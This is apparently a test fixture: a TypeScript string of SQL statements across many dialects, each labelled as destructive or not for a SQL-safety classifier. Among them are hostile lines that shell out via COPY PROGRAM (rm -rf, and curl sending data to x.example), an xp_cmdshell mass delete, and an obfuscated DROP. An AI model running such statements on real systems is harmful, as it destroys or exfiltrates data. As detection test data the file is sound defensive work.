/** Statements of many dialects. */
export const further = String.raw`
D data tables=orders :: DELETE o FROM orders o JOIN users u ON u.id=o.uid WHERE u.id=1
D data tables=a,b dialect=mysql :: DELETE a, b FROM a INNER JOIN b ON a.id=b.id
D data tables=orders :: COPY orders FROM PROGRAM 'rm -rf /var/lib/x'
D data/unknown/message tables=orders :: COPY orders TO PROGRAM 'curl -d @- https://x.example'
D data tables=orders :: WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d
D data tables=orders dialect=mssql :: DELETE TOP (500) FROM orders
D data tables=orders dialect=snowflake :: DROP TABLE IF EXISTS orders CASCADE
- data/config tables=orders dialect=snowflake :: UNDROP TABLE orders
D data tables=ds.orders dialect=bigquery :: CREATE OR REPLACE TABLE ds.orders AS SELECT 1 AS a
D data dialect=clickhouse tables=orders :: ALTER TABLE orders DROP PARTITION '2024'
D data dialect=clickhouse tables=orders :: ALTER TABLE orders DELETE WHERE 1=1
D data dialect=mysql tables=users :: /*!50000 DROP TABLE users */
D data dialect=mysql tables=orders :: ALTER TABLE orders TRUNCATE PARTITION p0
D data dialect=mysql tables=orders :: REPLACE INTO orders VALUES (1)
D data dialect=oracle tables=orders :: DROP TABLE orders PURGE
D data dialect=oracle :: PURGE RECYCLEBIN
D data dialect=oracle tables=orders :: FLASHBACK TABLE orders TO TIMESTAMP SYSDATE-1
- read tables=orders :: EXPLAIN DELETE FROM orders
D data tables=orders :: EXPLAIN ANALYZE DELETE FROM orders
D data tables=orders :: BEGIN; DELETE FROM orders; COMMIT;
- data/read/config tables=orders :: BEGIN; DELETE FROM orders; ROLLBACK;
D data tables=orders :: DO $$ BEGIN DELETE FROM orders; END $$
- unknown :: DR/**/OP TABLE x
- read :: SELECT '; DROP TABLE x; --'
D data/infra/unknown :: SELECT lo_unlink(1)
- infra/data/unknown/config :: SELECT pg_terminate_backend(1)
D data tables=orders :: MERGE INTO orders t USING s ON t.id=s.id WHEN MATCHED THEN DELETE
- data tables=orders :: INSERT INTO orders SELECT * FROM b
- config tables=orders :: CREATE INDEX i ON orders (a)
- config tables=orders :: ALTER TABLE orders ADD COLUMN a int
D data tables=orders :: ALTER TABLE orders DROP COLUMN a
D data :: DROP SCHEMA app CASCADE
D data :: DROP DATABASE shop
- config :: GRANT SELECT ON orders TO bob
- config :: CREATE USER bob
D data/unknown dialect=mssql :: EXEC xp_cmdshell 'del /s /q C:\data'
D data dialect=mssql tables=orders :: EXEC sp_executesql N'DELETE FROM orders'
- unknown dialect=mssql :: EXEC cleanup_old_orders
- unknown :: CALL cleanup_old_orders()
D data dialect=databricks tables=orders :: VACUUM orders RETAIN 0 HOURS
D data dialect=hive tables=orders :: INSERT OVERWRITE TABLE orders SELECT * FROM b
D data dialect=bigquery tables=ds.orders :: TRUNCATE TABLE ds.orders
D data dialect=bigquery :: DROP SCHEMA ds CASCADE
D data dialect=snowflake tables=orders :: TRUNCATE TABLE IF EXISTS orders
D data dialect=snowflake :: REMOVE @stage/path
- read dialect=snowflake :: SHOW TABLES LIKE 'a%'
- read dialect=mysql :: SHOW PROCESSLIST
- infra/data/config dialect=mysql :: KILL 42
D data dialect=mysql :: PURGE BINARY LOGS BEFORE '2024-01-01'
D data/infra/config dialect=mysql :: DROP USER bob
D data dialect=sqlite tables=orders :: DELETE FROM orders
- config/read dialect=sqlite :: PRAGMA journal_mode=WAL
- read :: VALUES (1)
- data/config/read :: SELECT * INTO backup FROM orders
- read :: SELECT * FROM orders FOR UPDATE
D data tables=orders :: UPDATE orders SET a=1
- read tables=deleted_users :: SELECT * FROM deleted_users WHERE drop_reason='x'
D data dialect=mssql tables=dbo.orders :: TRUNCATE TABLE dbo.orders
D data dialect=mssql :: DROP TABLE #tmp, dbo.orders
D data/infra dialect=mssql :: RESTORE DATABASE shop FROM DISK='x' WITH REPLACE
- data/config/infra dialect=mssql :: BACKUP DATABASE shop TO DISK='x'
D data/infra dialect=mssql :: ALTER DATABASE shop SET OFFLINE WITH ROLLBACK IMMEDIATE; DROP DATABASE shop
D data tables=orders :: LOCK TABLE orders; TRUNCATE orders
D data tables=events :: SELECT drop_chunks('events', INTERVAL '1 day')
D data dialect=clickhouse :: SYSTEM DROP REPLICA 'r1'
- read/config :: ANALYZE orders
- config/data/infra/read :: VACUUM FULL orders
- config/data/infra/read :: REINDEX TABLE orders
D data dialect=duckdb tables=orders :: DROP TABLE orders
- read dialect=duckdb :: FROM orders SELECT *
- data/read/config dialect=duckdb :: COPY orders TO 'x.parquet'
- read dialect=snowflake :: SELECT a:b::string FROM orders QUALIFY row_number() OVER (ORDER BY a)=1
D data :: DROP MATERIALIZED VIEW a; DROP TABLE b
`;
